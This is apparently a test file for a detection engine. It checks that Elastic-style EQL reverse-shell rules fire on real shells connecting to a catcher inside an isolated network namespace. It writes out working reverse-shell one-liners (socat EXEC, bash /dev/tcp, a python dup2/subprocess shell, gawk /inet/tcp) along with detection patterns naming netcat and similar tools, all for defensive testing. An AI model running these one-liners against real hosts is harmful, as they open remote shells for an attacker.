/**
 * Elastic's published relay-shell sequence shapes, as rule files written here in the shape
 * detection-rules publishes them (a network event of a process, then a shell that process
 * starts or becomes), fire on real shells of this host's kernel.
 *
 * The rules exclude loopback destinations (`not cidrmatch(destination.ip, "127.0.0.0/8", …)`),
 * so the catcher listens at 198.18.0.1 (the benchmarking range, never routed) inside a network
 * namespace the test creates, reached over a veth pair from 198.18.0.2 on the host side.
 * Nothing leaves the machine. The namespace and its listener are removed in afterAll.
 */
import { spawn, spawnSync, type ChildProcess } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Engine, ProcHostView, ProcessTable, type Finding } from "sockeye";
import { loadRuleCatalog } from "../../src/rules/catalog.js";
import { PYTHON, Session, kernelTier, run } from "./harness.js";

const tier = kernelTier();
const NS = `sockeye-eqlseq-${process.pid}`;
const HOST_IF = `sqh${process.pid % 100000}`;
const NS_IF = `sqn${process.pid % 100000}`;
const TARGET = "198.18.0.1";

/** Conditions as Elastic publishes them (detection-rules rules/linux, commit 14cf530f). */
const RULES: Record<string, { id: string; name: string; query: string }> = {
  tcp_cli: {
    id: "test-shell-via-tcp-cli-utility",
    name: "Linux Reverse Shell via Suspicious Utility (test copy)",
    query: `sequence by host.id with maxspan=5s
  [network where event.type == "start" and host.os.type == "linux" and
     event.action in ("connection_attempted", "connection_accepted") and
     process.name : ("bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish", "socat") and destination.ip != null and
     not cidrmatch(destination.ip, "127.0.0.0/8", "169.254.0.0/16", "224.0.0.0/4", "::1")] by process.entity_id
  [process where event.type == "start" and host.os.type == "linux" and event.action in ("exec", "fork") and
     process.name in ("bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish") and (
       (process.args : ("-i", "-l")) or (process.parent.name == "socat" and process.parent.args : "*exec*")
   )] by process.parent.entity_id`,
  },
  child_tcp: {
    id: "test-shell-via-child-tcp-utility",
    name: "Linux Reverse Shell via Child (test copy)",
    query: `sequence by host.id, process.entity_id with maxspan=5s
  [network where event.type == "start" and host.os.type == "linux" and
     event.action in ("connection_attempted", "connection_accepted") and
     process.name : ("bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish", "socat") and destination.ip != null and
     not cidrmatch(destination.ip, "127.0.0.0/8", "169.254.0.0/16", "224.0.0.0/4", "::1")]
  [process where event.type == "start" and host.os.type == "linux" and event.action == "exec" and
     process.name in ("bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish") and (
       (process.args : ("-i", "-l")) or (process.parent.name == "socat" and process.parent.args : "*exec*")
   )]`,
  },
  lolbin: {
    id: "test-shell-via-lolbin-interpreter",
    name: "Linux Reverse Shell via Lolbin (test copy)",
    query: `sequence by host.id, process.entity_id with maxspan=1s
  [process where host.os.type == "linux" and event.type == "start" and event.action in ("exec", "fork") and (
    (process.name : "python*" and process.args : "-c" and process.args : (
     "*import*pty*spawn*", "*import*subprocess*call*"
    )) or
    (process.name : ("awk", "gawk", "mawk", "nawk") and process.args : "*/inet/tcp/*") or
    (process.name : ("nc", "ncat", "netcat") and process.args == "-e" and process.args_count >= 3 and
     not process.args == "-z")
  ) and process.parent.name : (
    "bash", "dash", "sh", "tcsh", "csh", "zsh", "ksh", "fish", "python*", "php*", "perl", "ruby", "lua*",
    "nc", "netcat", "ncat", "awk", "gawk", "mawk", "nawk")]
  [network where host.os.type == "linux" and event.type == "start" and event.action in ("connection_attempted", "connection_accepted") and
    process.name : ("python*", "php*", "perl", "ruby", "lua*", "nc", "netcat", "ncat", "awk", "gawk", "mawk", "nawk") and
    destination.ip != null and not cidrmatch(destination.ip, "127.0.0.0/8", "169.254.0.0/16", "224.0.0.0/4", "::1")]`,
  },
};

function ruleFile(rule: { id: string; name: string; query: string }): string {
  return `[metadata]
creation_date = "2026/12/02"
maturity = "production"
updated_date = "2026/12/02"

[rule]
author = ["sockeye tests"]
description = "A test copy of a published relay-shell sequence shape."
language = "eql"
license = "Elastic License v2"
name = "${rule.name}"
risk_score = 47
rule_id = "${rule.id}"
severity = "medium"
type = "eql"
query = '''
${rule.query}
'''
`;
}

function sh(cmd: string, args: string[]): void {
  const r = spawnSync(cmd, args, { encoding: "utf8" });
  if (r.status !== 0) throw new Error(`${cmd} ${args.join(" ")}: ${r.stderr}`);
}

/** Accepts connections forever; each gets "exit\n" so the shell on the other end ends. */
const LISTENER = `
import socket, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("${TARGET}", 0)); s.listen(16); print(s.getsockname()[1], flush=True)
def serve(c):
    try:
        c.sendall(b"exit\\n")
        while c.recv(4096): pass
    except OSError: pass
    c.close()
while True:
    c, _ = s.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()
`;

describe.runIf(tier.run)("kernel: Elastic relay-shell sequences on real shells", () => {
  let session: Session;
  let listener: ChildProcess | undefined;
  let port = 0;
  const findings: Finding[] = [];
  const dir = mkdtempSync(join(tmpdir(), "sockeye-eqlseq-"));

  beforeAll(async () => {
    sh("ip", ["netns", "add", NS]);
    sh("ip", ["link", "add", HOST_IF, "type", "veth", "peer", "name", NS_IF]);
    sh("ip", ["link", "set", NS_IF, "netns", NS]);
    sh("ip", ["addr", "add", "198.18.0.2/30", "dev", HOST_IF]);
    sh("ip", ["link", "set", HOST_IF, "up"]);
    sh("ip", ["netns", "exec", NS, "ip", "addr", "add", `${TARGET}/30`, "dev", NS_IF]);
    sh("ip", ["netns", "exec", NS, "ip", "link", "set", NS_IF, "up"]);
    sh("ip", ["netns", "exec", NS, "ip", "link", "set", "lo", "up"]);
    const child = spawn("ip", ["netns", "exec", NS, PYTHON, "-c", LISTENER], { stdio: ["ignore", "pipe", "inherit"] });
    listener = child;
    port = await new Promise<number>((resolve, reject) => {
      child.stdout.once("data", (d: Buffer) => resolve(Number(String(d).trim())));
      child.once("exit", (code) => reject(new Error(`listener exited (${code})`)));
    });

    for (const [key, rule] of Object.entries(RULES)) writeFileSync(join(dir, `${key}.toml`), ruleFile(rule));
    session = await Session.open();
    const processes = new ProcessTable({ host: new ProcHostView() });
    processes.seedFromProc();
    const engine = new Engine({ rules: loadRuleCatalog({ rulePaths: [dir] }).rules, processes });
    session.sensor.subscribe((events) => {
      for (const e of events) for (const f of engine.handle(e)) findings.push(f);
    });
  });

  afterAll(() => {
    session?.close();
    listener?.kill("SIGKILL");
    spawnSync("ip", ["link", "del", HOST_IF]);
    spawnSync("ip", ["netns", "del", NS]);
    rmSync(dir, { recursive: true, force: true });
  });

  type Step = { kind: string; destination?: { ip: string; port: number } };
  const stepsOf = (f: Finding): Step[] => (f as unknown as { sockeye?: { sequence?: Step[] } }).sockeye?.sequence ?? [];
  /** Findings of rule `id` whose sequence holds a connect to this test's catcher. */
  const findingsOf = (id: string) =>
    findings.filter((f) => f.rule.id === id && stepsOf(f).some((s) => s.destination?.ip === TARGET && s.destination.port === port));

  /** Runs a shell line under a 5 s kill switch and waits until the sensor saw its events. */
  async function attack(line: string): Promise<void> {
    await run("timeout", ["-s", "KILL", "5", "bash", "-c", `${line}; true`]);
    await session.settle(500);
  }

  it("the catcher is reachable only through the test namespace", () => {
    expect(port).toBeGreaterThan(0);
  });

  it("socat connects, then the shell it starts (socat TCP:… EXEC:'bash -li')", async () => {
    const before = findingsOf(RULES["tcp_cli"]!.id).length;
    await attack(`socat TCP:${TARGET}:${port} EXEC:'bash -li'`);
    const fired = findingsOf(RULES["tcp_cli"]!.id).slice(before);
    expect(fired).toHaveLength(1);
    expect(fired[0]).toMatchObject({ process: { name: "bash", parent: { name: "socat" } } });
    const steps = stepsOf(fired[0]!);
    expect(steps.map((s) => s.kind)).toEqual(["outbound", "exec"]);
    expect(steps[0]!.destination).toEqual({ ip: TARGET, port });
  });

  it("a shell connects, then becomes an interactive shell (exec bash -i on the socket)", async () => {
    const before = findingsOf(RULES["child_tcp"]!.id).length;
    await attack(`bash -c 'exec 3<>/dev/tcp/${TARGET}/${port}; exec bash -i <&3 >&3 2>&3'`);
    const fired = findingsOf(RULES["child_tcp"]!.id).slice(before);
    expect(fired).toHaveLength(1);
    expect(fired[0]).toMatchObject({ process: { name: "bash", args: ["bash", "-i"] } });
  });

  it("python started by a shell connects and spawns sh -i (import … subprocess … call)", async () => {
    const before = findingsOf(RULES["lolbin"]!.id).length;
    const code =
      `import socket,subprocess,os;s=socket.socket();s.connect(("${TARGET}",${port}));` +
      `os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])`;
    await attack(`${PYTHON} -c '${code}'`);
    const fired = findingsOf(RULES["lolbin"]!.id).slice(before);
    expect(fired).toHaveLength(1);
    expect(fired[0]?.process.name).toMatch(/^python/);
  });

  it("gawk started by a shell connects over /inet/tcp", async () => {
    const before = findingsOf(RULES["lolbin"]!.id).length;
    await attack(`gawk 'BEGIN { s = "/inet/tcp/0/${TARGET}/${port}"; s |& getline line; close(s) }'`);
    const fired = findingsOf(RULES["lolbin"]!.id).slice(before);
    expect(fired).toHaveLength(1);
    expect(fired[0]).toMatchObject({ process: { name: "gawk" } });
  });

  it("loopback shells stay silent: the published exclusions hold", async () => {
    const before = findings.filter((f) => Object.values(RULES).some((r) => r.id === f.rule.id)).length;
    const loop = spawn(PYTHON, ["-c", "import socket,time;s=socket.socket();s.bind(('127.0.0.1',0));s.listen();print(s.getsockname()[1],flush=True);time.sleep(4)"], {
      stdio: ["ignore", "pipe", "ignore"],
    });
    const loopPort = await new Promise<number>((resolve) => loop.stdout.once("data", (d: Buffer) => resolve(Number(String(d).trim()))));
    try {
      await attack(`socat TCP:127.0.0.1:${loopPort} EXEC:'bash -li' & sleep 0.5; kill %1`);
    } finally {
      loop.kill("SIGKILL");
    }
    const ours = findings.filter((f) => Object.values(RULES).some((r) => r.id === f.rule.id)).slice(before);
    expect(ours.filter((f) => stepsOf(f).some((s) => s.destination?.port === loopPort))).toEqual([]);
  });
});
